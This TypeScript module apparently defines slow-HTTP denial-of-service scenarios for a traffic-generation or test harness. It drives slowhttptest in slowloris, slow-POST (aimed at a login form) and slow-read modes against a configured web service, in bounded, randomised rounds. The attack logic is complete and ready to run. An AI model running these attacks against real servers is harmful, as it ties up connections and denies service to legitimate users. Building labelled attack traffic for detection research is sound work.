// Slow HTTP denial of service with slowhttptest: many connections that each hold a server slot
// by sending the request (slow headers, "slowloris"; slow body, "R-U-Dead-Yet") or reading the
// answer (slow read) a trickle at a time. When the server times the connections out, the test
// ends, and the attacker starts another round until the budget is spent.
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import type { Scenario, ScenarioContext, ScenarioResult } from "../scenario.ts";
import { curlGlobOff } from "./addresses.ts";
import { Budget, firstErrorLine, runTool } from "./bounded.ts";
import { webOrigin } from "./curl-session.ts";
import { intBetween, pick, type Rng } from "./random.ts";

/** One round's longest test (-l); nginx usually ends a round sooner by timing connections out. */
const ROUND_CAP_S = 60;
const MAX_ROUNDS = 4;

interface SlowMode {
  id: string;
  description: string;
  /** Mode flags and target for one round. */
  args: (rng: Rng, target: string) => string[];
  /** The URL path to hold (resolved once per run). */
  target: (ctx: ScenarioContext, budget: Budget) => Promise<string>;
}

async function anyPage(ctx: ScenarioContext): Promise<string> {
  return pick(ctx.rng, ["/", ...ctx.services.web.pages]);
}

/**
 * Slow read needs an answer larger than the socket buffers: like an attacker, look for the
 * largest download with a few HEAD requests first.
 */
async function largestDownload(ctx: ScenarioContext, budget: Budget): Promise<string> {
  let best = { path: "/", size: -1 };
  for (const path of ctx.services.web.downloads.slice(0, 6)) {
    const run = await runTool(ctx, budget, ["curl", ...curlGlobOff(ctx), "-sI", "--connect-timeout", "3", "-m", "5", webOrigin(ctx) + path], { maxMs: 8_000, graceMs: 0 });
    const size = Number(/content-length:\s*(\d+)/i.exec(run.stdout)?.[1] ?? -1);
    if (size > best.size) best = { path, size };
  }
  return best.path;
}

const SLOW_MODES: SlowMode[] = [
  {
    id: "slowhttptest-slowloris",
    description: "slowhttptest -H slow headers (slowloris)",
    target: anyPage,
    args: (rng, target) => ["-H", "-t", "GET", "-u", target, "-i", String(intBetween(rng, 4, 15)), "-x", String(intBetween(rng, 16, 48))],
  },
  {
    id: "slowhttptest-slow-body",
    description: "slowhttptest -B slow POST body (R-U-Dead-Yet) to the login form",
    target: async (ctx) => ctx.services.web.loginPath,
    args: (rng, target) => [
      "-B", "-t", "POST", "-u", target, "-i", String(intBetween(rng, 3, 12)), "-s", String(intBetween(rng, 4_096, 16_384)), "-x", String(intBetween(rng, 10, 40)),
    ],
  },
  {
    id: "slowhttptest-slow-read",
    description: "slowhttptest -X slow read of a large download",
    target: largestDownload,
    args: (rng, target) => {
      const minWindow = intBetween(rng, 32, 512);
      return [
        "-X", "-u", target, "-w", String(minWindow), "-y", String(minWindow + intBetween(rng, 64, 1_024)),
        "-n", String(intBetween(rng, 1, 5)), "-z", String(intBetween(rng, 16, 64)), "-k", String(intBetween(rng, 1, 4)),
      ];
    },
  },
];

/** Connections slowhttptest opened in one round, from its per-second CSV statistics. */
function connectionsOf(csvPath: string): number {
  if (!existsSync(csvPath)) return 0;
  let most = 0;
  for (const row of readFileSync(csvPath, "utf8").split("\n").slice(1)) {
    const [, closed, pending, connected] = row.split(",").map(Number);
    if (closed === undefined || pending === undefined || connected === undefined) continue;
    const total = closed + pending + connected;
    if (Number.isFinite(total)) most = Math.max(most, total);
  }
  return most;
}

async function runSlowHttp(mode: SlowMode, ctx: ScenarioContext): Promise<ScenarioResult> {
  const { rng } = ctx;
  const budget = new Budget(ctx.durationMs);
  const target = webOrigin(ctx) + (await mode.target(ctx, budget));
  let connections = 0;
  let rounds = 0;
  const problems: string[] = [];
  const described: string[] = [];
  while (rounds < MAX_ROUNDS && budget.allows(3_000)) {
    const conns = intBetween(rng, 100, 400);
    const rate = intBetween(rng, 20, 100);
    const seconds = Math.max(2, Math.min(ROUND_CAP_S, Math.floor(budget.remainingMs() / 1_000)));
    const stats = join(ctx.workDir, `${mode.id}-${rounds}`);
    const argv = [
      "slowhttptest", ...mode.args(rng, target), "-c", String(conns), "-r", String(rate),
      "-p", String(intBetween(rng, 2, 5)), "-l", String(seconds), "-g", "-o", stats,
    ];
    ctx.log(argv.join(" "));
    // slowhttptest stops itself after -l seconds (plus closing); the kill is the backstop.
    const run = await runTool(ctx, budget, argv, { maxMs: seconds * 1_000 + 5_000 });
    rounds++;
    const opened = connectionsOf(`${stats}.csv`);
    connections += opened;
    described.push(`${opened}/${conns} conns @${rate}/s in ${(run.elapsedMs / 1_000).toFixed(0)} s`);
    if (!run.killed && run.code !== 0) problems.push(firstErrorLine(run));
    await budget.pause(intBetween(rng, 200, 1_500));
  }
  const notes = [`${rounds} rounds (${described.join("; ")})`];
  if (problems.length > 0) notes.push(`errors: ${[...new Set(problems)].join(" | ")}`);
  return { actions: connections, note: notes.join(", ") };
}

export const SLOW_HTTP_SCENARIOS: Scenario[] = SLOW_MODES.map((mode) => ({
  id: mode.id,
  label: "DoS-SlowHTTP",
  tool: "slowhttptest",
  ipv6: true,
  description: mode.description,
  run: (ctx) => runSlowHttp(mode, ctx),
}));
